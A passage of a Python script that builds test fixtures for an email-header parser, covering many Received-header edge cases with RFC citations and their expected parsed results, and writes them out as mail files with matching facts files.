    h("ip-mapped", f"Received: from a.example.com (a.example.com [IPv6:::ffff:192.0.2.18])\n\tby b.example.net (Postfix) with ESMTP id 5F; {day}\n", {"ip": "192.0.2.18", "by": "b.example.net"}, "An IPv4 address mapped into IPv6 is an IPv4 address.", source="RFC 4291 section 2.5.5.2")
    h("literal-claimed", f"Received: from [192.0.2.21] (unknown)\n\tby b.example.net with ESMTP id 6; {day}\n", {"helo": "[192.0.2.21]", "rdns": None, "ip": None, "by": "b.example.net"}, "What the client called itself is no address that the server saw.", source="RFC 5321 section 4.1.3")
    h("network-named", f"Received: from [192.0.2.22] (unknown [203.0.113.22] (AS64500 Example Telecom, MA))\n\tby b.example.net (Stalwart SMTP) with ESMTP id 3D8C2F013BB46F5;\n\t{day}\n", {"helo": "[192.0.2.22]", "rdns": None, "ip": "203.0.113.22", "by": "b.example.net"}, "A comment in the comment names the network, not the client.")
    h("exim-helo-alone", f"Received: (helo=helo.example.com)\n\tby mx.example.net with esmtp\n\t(Exim 4.96)\n\t(envelope-from <ada@example.org>)\n\tid 1sV2GB-0005It-1D\n\tfor bob@example.net; {day}\n", {"helo": "helo.example.com", "rdns": None, "ip": None, "by": "mx.example.net", "id": "1sV2GB-0005It-1D"}, "Exim without an address writes the HELO alone.", source="exim: received_header_text")
    h("bracket-unclosed", f"Received: from a.example.com ([192.0.2.23]:40260)\n\tby b.example.net with esmtp (envelope-from <ada@example.org)\n\tid 1lGUN6-0005sL-EZ\n\tfor bob@example.net; {day}\n", {"ip": "192.0.2.23", "by": "b.example.net", "id": "1lGUN6-0005sL-EZ", "for": "bob@example.net"}, "An angle bracket that is not closed cuts nothing.", ["received-bracket-unclosed"], "RFC 5321 section 4.1.2")
    h("weekday-garbage", "Received: from a.example.com ([192.0.2.24])\n\tby b.example.net with esmtp id 1lGUN6-0005sL-EY;\n\tTue, ??, 29 Jan 2023 17:21:28 +0000\n", {"ip": "192.0.2.24", "by": "b.example.net", "date_utc": "2023-01-29T17:21:28Z"}, "The name of a day before garbage is nobody's day.", ["date-form"], "RFC 5322 section 3.3")
    h("helo-question-marks", f"Received: from ?IPv6:::ffff:192.0.2.25? (rdns.example.com. [203.0.113.25])\n        by smtp.example.com with ESMTPSA id h7sm40qtx.2.2018.06.02.09.29.34; {day}\n", {"helo": "?IPv6:::ffff:192.0.2.25?", "rdns": "rdns.example.com", "ip": "203.0.113.25", "by": "smtp.example.com"}, "Question marks where the client wrote brackets.")
    h("order", f"Received: from b.example.net ([192.0.2.19]) by c.example.net with ESMTP id N; Thu, 20 Nov 2025 08:00:00 +0000\nReceived: from a.example.org ([192.0.2.20]) by b.example.net with ESMTP id O; {day}\n", [{"by": "c.example.net", "date_utc": "2025-11-20T08:00:00Z"}, {"by": "b.example.net", "date_utc": at8}], "The order is that of the file, newest first, even when the clocks say otherwise.", source="RFC 5321 section 4.4")
    raw = "".join(f"{k}: {v}\n" for k, v in STANDARD.items())
    place = f"Received: from forged.example ([203.0.113.9]) by real.example.net with SMTP id 66; {day}\n"
    known = {}
    for facts in STANDARD_FACTS.values():
        known |= facts
    eml("hop-misplaced", raw + place + "\nText.\n", "A Received field below From, To and Subject.", "RFC 5321 section 4.4", known | {"anomalies": ["received-misplaced"], "hops": [{"ip": "203.0.113.9", "by": "real.example.net", "date_utc": at8}]})
    many = "".join(f"Received: from h{n}.example.org ([192.0.2.{n % 250}]) by h{n + 1}.example.org with ESMTP id I{n}; {day}\n" for n in range(200))
    h("many", many, [{"by": f"h{n + 1}.example.org", "ip": f"192.0.2.{n % 250}", "id": f"I{n}"} for n in range(200)], "200 hops.", source="RFC 5321 section 6.3")


def main():
    import quirks_mime
    import quirks_boxes
    import quirks_read

    base_dir = Path(sys.argv[1]) if len(sys.argv) > 1 else HERE
    headers()
    people()
    words()
    dates()
    hops()
    quirks_mime.add()
    quirks_boxes.add()
    quirks_read.add()
    for folder in ("mail", "mbox", "other", "maildir"):
        shutil.rmtree(base_dir / folder, ignore_errors=True)
    for path, (data, answer) in sorted(DONE.items()):
        whole = data if isinstance(data, dict) else {"": data}
        for inner, content in whole.items():
            file = base_dir / path / inner
            file.parent.mkdir(parents=True, exist_ok=True)
            file.write_bytes(content)
        name = re.sub(r"\.(eml|mbox|bin)$", "", path) + ".facts.json"
        (base_dir / name).write_text(json.dumps(answer, indent=1, ensure_ascii=False) + "\n", "utf-8")
    print(len(DONE), "quirks in", base_dir)


if __name__ == "__main__":
    sys.modules["make_quirks"] = sys.modules["__main__"]
    main()
